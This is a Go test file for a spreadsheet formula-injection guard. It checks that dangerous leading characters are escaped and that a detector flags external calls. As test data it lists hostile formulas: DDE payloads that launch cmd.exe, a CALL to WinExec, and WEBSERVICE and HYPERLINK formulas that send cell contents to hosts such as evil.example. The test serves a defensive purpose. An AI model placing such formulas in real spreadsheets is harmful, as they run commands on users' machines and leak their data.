package cellguard

import "testing"

func TestQuote(t *testing.T) {
	for in, want := range map[string]string{"=SUM(A1)": "'=SUM(A1)", "+1": "'+1", "-2": "'-2", "@x": "'@x",
		"\tx": "'\tx", "\rx": "'\rx", "Ada": "Ada", "": "", "c-1": "c-1", "'=x": "'=x"} {
		if got := Quote(in); got != want {
			t.Errorf("%q → %q, want %q", in, got, want)
		}
	}
	row := QuoteAll([]any{"=cmd", 3, "ok", "-1"})
	if row[0] != "'=cmd" || row[1] != 3 || row[2] != "ok" || row[3] != "'-1" {
		t.Fatalf("%v", row)
	}
}

func TestExternalCall(t *testing.T) {
	for _, tc := range []struct {
		formula string
		want    bool
	}{
		{`cmd|'/c calc'!A1`, true},
		{`MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''`, true},
		{`LOWER(C2)&cmd|' /C notepad'!'A1'`, true},
		{`[1]Sheet1!A1`, true},
		{`'C:\data\[book.xlsx]Sheet1'!A1`, true},
		{`SUM('[other.xlsx]Data'!A1:A3)`, true},
		{`CALL("Kernel32","WinExec","JCJ","calc",0)`, true},
		{`WEBSERVICE("http://x/?"&A1)`, true},
		{`rtd("srv",,"topic")`, true},
		{`HYPERLINK("http://x/?"&A2,"click")`, true},
		{`_xlfn.WEBSERVICE("http://evil.example/?"&C2)`, true},
		{`_XLFN.FILTERXML(_xlfn.WEBSERVICE("http://x"),"//a")`, true},
		{`_xlfn.IMAGE("http://x/"&A2)`, true},
		{`_xll.MyAddIn(A2)`, true},
		{`LOWER(C2)`, false},
		{`_xlfn.CONCAT(A2," ",B2)`, false},
		{`_xlfn._xlws.FILTER(A1:A3,B1:B3)`, false},
		{`IF(A1="a|b","x","y")`, false},
		{`CONCAT(A2," ",B2)`, false},
		{`Sheet2!A1&"[x]"`, false},
		{`SUM(Table1[Amount])`, false},
		{`Table1[Amount]&Sheet2!A1`, false},
		{`TRIM(PROPER(A2))`, false},
		{`RECALL(A1)`, false},
	} {
		t.Run(tc.formula, func(t *testing.T) {
			if got := ExternalCall(tc.formula); got != tc.want {
				t.Fatalf("ExternalCall(%q) = %v, want %v", tc.formula, got, tc.want)
			}
		})
	}
}
